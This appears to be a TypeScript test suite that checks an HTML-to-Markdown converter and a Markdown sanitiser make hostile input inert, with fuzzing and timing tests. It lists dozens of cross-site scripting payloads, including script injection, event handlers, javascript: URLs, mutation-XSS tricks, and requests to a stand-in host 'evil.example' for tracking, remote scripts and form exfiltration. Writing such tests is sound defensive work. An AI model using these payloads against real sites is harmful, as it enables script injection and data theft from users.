import fc from 'fast-check';
import { expect, it } from 'vitest';
import { expectInert } from '../testing/expect-inert.ts';
import { htmlToMarkdown } from './html-to-markdown.ts';
import { safeMarkdown } from './safe-markdown.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.png">',
  '<img src="//evil.example/track.png" alt="a">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://a.example/)[x](javascript:alert(1)">x</a>',
  '<a href="https://a.example/\\)">x</a>',
  '<a href="https://a.example" onclick="alert(1)" style="x:expression(alert(1))">x](javascript:alert(1))</a>',
  '<svg onload=alert(1)><g/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css"; p { background: url(javascript:alert(1)) }</style>',
  '<div style="background:url(https://evil.example/x); width: expression(alert(1))">x</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
  '<form action="https://evil.example"><input name="p"><button>Send</button></form>',
  '<video src="https://evil.example/x.mp4"><source src=x onerror=alert(1)></video>',
  '<details ontoggle=alert(1) open>x</details>',
  '<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php system("x") ?>',
  '<b <script>alert(1)</script>0',
  '<<b>script>alert(1)<</b>/script>',
  '<p id="x"><b>never <i>closed',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&lt;img src=x onerror=alert(1)&gt;',
  '![x](https://evil.example/track.png)',
  '[x](javascript:alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<p>[x]:</p> https://evil.example/ "t"',
  'wow!<a href="https://evil.example/track.png">x</a>',
  '<code>`</code><img src=x>`',
  '<pre>```\n<script>alert(1)</script></pre>',
  '\\(\\href{javascript:alert(1)}{x}\\)',
  '\0<scr\0ipt>alert(1)</scr\0ipt>',
  '\ud83d<b>x</b>',
];

it.each(attacks)('is inert: %s', (html) => {
  for (const each of [
    html,
    `<p>${html}</p>`,
    `<table><tr><td>${html}</td></tr></table>`,
    `<ul><li>${html}`,
  ]) {
    expectInert(htmlToMarkdown(each).markdown);
  }
});

it('any mixture of them is inert', () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.string({ maxLength: 8 }),
    fc.constantFrom('<p>', '</p>', '`', '](', '\n'),
  );
  fc.assert(
    fc.property(fc.array(piece, { minLength: 2, maxLength: 6 }), (pieces) => {
      expectInert(htmlToMarkdown(pieces.join('')).markdown);
    }),
    { numRuns: 500 },
  );
});

it('tells what was taken away', () => {
  expect(htmlToMarkdown('<p onclick="x()">a</p>').notes).toEqual(['A script was left out.']);
  expect(htmlToMarkdown('a<iframe src="x"></iframe>').notes).toEqual(['Embedded content was left out.']);
  expect(htmlToMarkdown('a<img src="https://x.example/a.png" alt="a">').notes).toEqual([
    'An image or recording from another site was left out; its description is kept.',
  ]);
});

const pieces = [
  '<',
  '<b>',
  '<a ',
  '</',
  '\\(',
  '$$',
  '<math',
  '<script',
  ' onx',
  '&#',
  '<table><tr><td>',
  '![',
  '`',
  '<!--',
  '<svg>',
  '<pre>',
  '<ul><li>',
  ' ',
  '<br>',
  'www.',
  '<img ',
  '**',
  '<i><b>',
  '<p>',
  '<sup>x',
  '"',
];

it.each(pieces)('a million characters of %s take no longer than their length', (piece) => {
  const start = performance.now();

  htmlToMarkdown(`<p>${piece.repeat(1_000_000 / piece.length)}`);

  expect(performance.now() - start).toBeLessThan(6_000);
});

it.each([
  ['<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
  ['[x](javascript:alert(1))', 'x'],
  ['[x](<data:text/html,x>)', 'x'],
  [
    '![a cat](https://evil.example/x.png) ![b][1]\n\n[1]: https://x.example/',
    'a cat b\n\n[1]: https://x.example/',
  ],
  ['[x](java&#115;cript:alert(1)) [y](javascript\\:alert(1))', 'x y'],
  ['<div>\n[x](javascript:alert(1))\n</div>', '&lt;div>\nx\n&lt;/div>'],
  ['[x]\n\n[x]: javascript:alert(1)', '[x]'],
  ['`<b>` and \\<b>', '`<b>` and \\<b>'],
  ['https://x.example/\\<script>', 'https://x.example/\\&lt;script>'],
  ['<https://x.example/>', '<https://x.example/>'],
])('Markdown from outside is made inert: %s', (markdown, safe) => {
  expect(safeMarkdown(markdown).markdown).toBe(safe);
});

it('any mixture of Markdown and attacks is inert', () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom('[', '](', ')', '![', '`', '\\', '\n\n', '> ', '- '),
  );
  fc.assert(
    fc.property(fc.array(piece, { minLength: 2, maxLength: 6 }), (pieces) => {
      expectInert(safeMarkdown(pieces.join('')).markdown);
    }),
    { numRuns: 300 },
  );
});
